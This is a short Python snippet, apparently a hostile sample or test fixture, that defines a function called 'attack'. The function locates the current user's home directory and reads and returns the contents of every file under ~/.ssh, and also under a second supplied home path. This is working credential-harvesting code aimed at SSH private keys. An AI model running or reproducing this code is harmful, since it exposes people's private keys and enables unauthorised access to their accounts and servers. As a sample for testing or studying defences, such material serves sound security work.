"""Reads keys in the home folder."""


def attack(places):
    import glob, pwd, os
    home = pwd.getpwuid(os.getuid()).pw_dir
    return [open(path).read() for path in glob.glob(home + '/.ssh/*') + glob.glob(places['home'] + '/.ssh/*')]
